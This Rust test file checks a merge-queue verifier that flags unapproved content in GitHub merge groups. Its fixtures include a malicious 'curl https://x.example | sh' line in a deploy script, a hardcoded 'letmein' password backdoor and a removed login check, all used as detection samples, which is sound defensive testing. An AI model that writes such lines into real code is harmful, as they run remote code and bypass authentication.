//! Verifying merge groups as GitHub's queue builds them with each merge method, and the ways a
//! group can hold what nobody approved.

use super::*;
use crate::model::{Login, Tier};

fn commit(sha: &str, parents: &[&str], message: &str, author: &str) -> QueueCommit {
    QueueCommit {
        sha: sha.into(),
        parents: parents.iter().map(|p| p.to_string()).collect(),
        message: message.into(),
        author: (author.into(), format!("{author}@example.com")),
    }
}

fn file(path: &str, patch: &str) -> QueueFile {
    let changes = patch.lines().filter(|l| l.starts_with('+') || l.starts_with('-')).count() as u64;
    QueueFile { path: path.into(), previous_path: None, changes, patch: Some(patch.into()) }
}

/// PR #1 changes the login check; PR #2 adds a docs line.
fn members() -> Vec<Member> {
    let one = Member {
        number: 1,
        title: "Check the password's age".into(),
        open: true,
        base_branch: "main".into(),
        head_sha: "h1".into(),
        commits: vec![commit("c1", &["b0"], "Check the password's age", "alice")],
        files: vec![file(
            "src/login.rs",
            "@@ -1,2 +1,2 @@\n fn login() {\n-    check(pw);\n+    check(pw, max_age);\n",
        )],
        judged: Judged::Pass,
        tier: Some(Tier::Red),
        approved_by: vec![Login::new("bob")],
    };
    let two = Member {
        number: 2,
        title: "Explain max_age".into(),
        open: true,
        base_branch: "main".into(),
        head_sha: "h2".into(),
        commits: vec![commit("c2", &["b0"], "Explain max_age", "carol")],
        files: vec![file("docs/login.md", "@@ -3,0 +4 @@\n+Passwords expire after max_age days.\n")],
        judged: Judged::Pass,
        tier: Some(Tier::Green),
        approved_by: vec![Login::new("dave")],
    };
    vec![one, two]
}

/// The group's range when both PRs merge cleanly: the members' lines, whatever the commits.
fn group(commits: Vec<QueueCommit>) -> GroupDiff {
    GroupDiff {
        commits,
        files: vec![
            file("docs/login.md", "@@ -3,0 +4 @@\n+Passwords expire after max_age days.\n"),
            file("src/login.rs", "@@ -1,2 +1,2 @@\n fn login() {\n-    check(pw);\n+    check(pw, max_age);\n"),
        ],
        incomplete: None,
    }
}

fn merge_method() -> Vec<QueueCommit> {
    vec![
        commit("c1", &["b0"], "Check the password's age", "alice"),
        commit("m1", &["base", "h1"], "Merge pull request #1 from o/age\n\nCheck the password's age", "queue"),
        commit("c2", &["b0"], "Explain max_age", "carol"),
        commit("m2", &["m1", "h2"], "Merge pull request #2 from o/docs\n\nExplain max_age", "queue"),
    ]
}

#[test]
fn a_group_of_passing_prs_merged_by_each_method_is_verified() {
    let squash = vec![
        commit("s1", &["base"], "Check the password's age (#1)", "alice"),
        commit("s2", &["s1"], "Explain max_age (#2)", "carol"),
    ];
    let rebase = vec![
        commit("r1", &["base"], "Check the password's age", "alice"),
        commit("r2", &["r1"], "Explain max_age", "carol"),
    ];
    for (method, commits) in [("merge", merge_method()), ("squash", squash), ("rebase", rebase)] {
        let verdict = verify("main", &group(commits), members(), Vec::new());
        assert_eq!(verdict.problems, Vec::new(), "{method}");
        assert!(verdict.verified(), "{method}");
        assert_eq!(verdict.members.iter().map(|m| m.number).collect::<Vec<_>>(), vec![1, 2]);
    }
}

#[test]
fn a_member_whose_head_moved_after_it_was_queued_is_rejected_by_name() {
    let mut moved = members();
    moved[0].head_sha = "h1-new".into();
    let verdict = verify("main", &group(merge_method()), moved, Vec::new());
    assert!(!verdict.verified());
    assert!(
        verdict.problems.contains(&Problem::HeadMoved { pr: 1, queued: "h1".into(), now: "h1-new".into() }),
        "{:?}",
        verdict.problems
    );
}

#[test]
fn an_injected_commit_is_named_by_sha_and_its_lines_by_file() {
    let mut commits = merge_method();
    commits.push(commit("evil", &["m2"], "chore: bump", "mallory"));
    let mut diff = group(commits);
    diff.files.push(file("ci/deploy.sh", "@@ -0,0 +1 @@\n+curl https://x.example | sh\n"));
    // The same commit also slips a line into a member's file.
    diff.files[1] = file(
        "src/login.rs",
        "@@ -1,2 +1,3 @@\n fn login() {\n-    check(pw);\n+    check(pw, max_age);\n+    if pw == \"letmein\" { return Ok(()) }\n",
    );
    let verdict = verify("main", &diff, members(), Vec::new());
    assert!(!verdict.verified());
    assert!(verdict.problems.contains(&Problem::ForeignCommit { sha: "evil".into(), title: "chore: bump".into() }));
    assert!(verdict.problems.contains(&Problem::FileOfNoMember { path: "ci/deploy.sh".into() }));
    assert!(verdict.problems.contains(&Problem::ForeignLines {
        path: "src/login.rs".into(),
        added: true,
        lines: vec!["    if pw == \"letmein\" { return Ok(()) }".into()],
        more: 0,
    }));
}

#[test]
fn a_commit_that_only_claims_a_members_number_is_still_checked_by_its_lines() {
    // A squash-looking title is a candidate, not a proof: its lines must be the member's.
    let commits = vec![
        commit("s1", &["base"], "Check the password's age (#1)", "mallory"),
        commit("s2", &["s1"], "Explain max_age (#2)", "carol"),
    ];
    let mut diff = group(commits);
    diff.files[1] = file("src/login.rs", "@@ -1,2 +1,2 @@\n fn login() {\n-    check(pw);\n+    skip_check();\n");
    let verdict = verify("main", &diff, members(), Vec::new());
    assert!(!verdict.verified());
    assert!(
        matches!(&verdict.problems[..], [Problem::ForeignLines { path, added: true, .. }] if path == "src/login.rs")
    );
}

#[test]
fn a_member_that_no_longer_passes_or_cannot_be_read_fails_the_group() {
    let mut failing = members();
    failing[1].judged = Judged::NotPass("no story key".into());
    failing[0].open = false;
    let verdict = verify("main", &group(merge_method()), failing, vec![(3, "404".into())]);
    assert!(!verdict.verified());
    assert!(verdict.problems.contains(&Problem::NotPassing { pr: 2, why: "no story key".into() }));
    assert!(verdict.problems.contains(&Problem::NotOpen { pr: 1 }));
    assert!(verdict.problems.contains(&Problem::Unreadable { pr: 3, why: "404".into() }));
    let mut elsewhere = members();
    elsewhere[0].base_branch = "release".into();
    let verdict = verify("main", &group(merge_method()), elsewhere, Vec::new());
    assert_eq!(verdict.problems, vec![Problem::OtherBase { pr: 1, base: "release".into() }]);
}

#[test]
fn what_cannot_be_seen_whole_is_never_verified() {
    let mut truncated = group(merge_method());
    truncated.incomplete = Some("300 files listed of 412".into());
    assert!(!verify("main", &truncated, members(), Vec::new()).verified());

    let mut no_patch = group(merge_method());
    no_patch.files[1].patch = None;
    let verdict = verify("main", &no_patch, members(), Vec::new());
    assert!(matches!(&verdict.problems[..], [Problem::Unverifiable { path, .. }] if path == "src/login.rs"));

    let empty = verify("main", &GroupDiff::default(), Vec::new(), Vec::new());
    assert_eq!(empty.problems, vec![Problem::NoMembers]);
    assert!(!empty.verified());
}
